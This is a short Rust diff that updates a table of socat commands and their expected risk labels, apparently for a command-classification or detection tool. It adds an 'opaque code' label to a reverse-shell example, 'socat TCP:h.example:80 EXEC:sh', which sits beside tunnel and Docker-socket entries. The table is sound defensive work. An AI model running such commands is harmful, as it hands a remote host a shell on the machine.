@@ -425,7 +425,10 @@ pub(crate) const MODELS: &[Model] = &[
             ("socat -u FILE:a STDOUT", &["reads a"]),
             ("socat TCP-LISTEN:80,bind=127.0.0.1 TCP:localhost:81", &[]),
             ("socat - TCP:h.example:80", &["sends h.example:80"]),
-            ("socat TCP:h.example:80 EXEC:sh", &["sends h.example:80", "runs sh", "marks tunnel"]),
+            (
+                "socat TCP:h.example:80 EXEC:sh",
+                &["sends h.example:80", "runs sh", "opaque code", "marks tunnel"],
+            ),
             ("socat TCP-LISTEN:80,fork TCP:localhost:81", &["marks tunnel"]),
             ("socat - UNIX:/var/run/docker.sock", &["marks host-access"]),
         ]),
